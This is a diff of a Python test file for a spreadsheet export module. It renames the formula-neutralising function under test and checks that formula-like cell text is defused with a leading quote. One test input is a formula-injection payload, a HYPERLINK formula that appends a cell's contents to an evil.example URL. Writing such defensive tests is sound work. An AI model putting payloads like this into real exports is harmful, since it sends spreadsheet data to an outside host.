@@ -8,7 +8,8 @@ from datetime import date, datetime, timedelta, timezone
 import pytest
 from openpyxl import load_workbook
 
-from app.exports import ExportError, export_format, neutralise, write_table
+from app.exports import ExportError, export_format, write_table
+from lexicon import neutralise_formula
 
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
@@ -31,13 +32,13 @@ def _rows():
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
-    assert neutralise(text) == "'" + text
+    assert neutralise_formula(text) == "'" + text
 
 
 @pytest.mark.parametrize("value", ["ACME S.A.", "Química = buena", "", 5, -3.5, None,
                                    date(2025, 1, 1)])
 def test_ordinary_values_are_left_alone(value):
-    assert neutralise(value) == value
+    assert neutralise_formula(value) == value
 
 
 def test_csv_has_bom_iso_dates_and_no_live_formula(tmp_path):
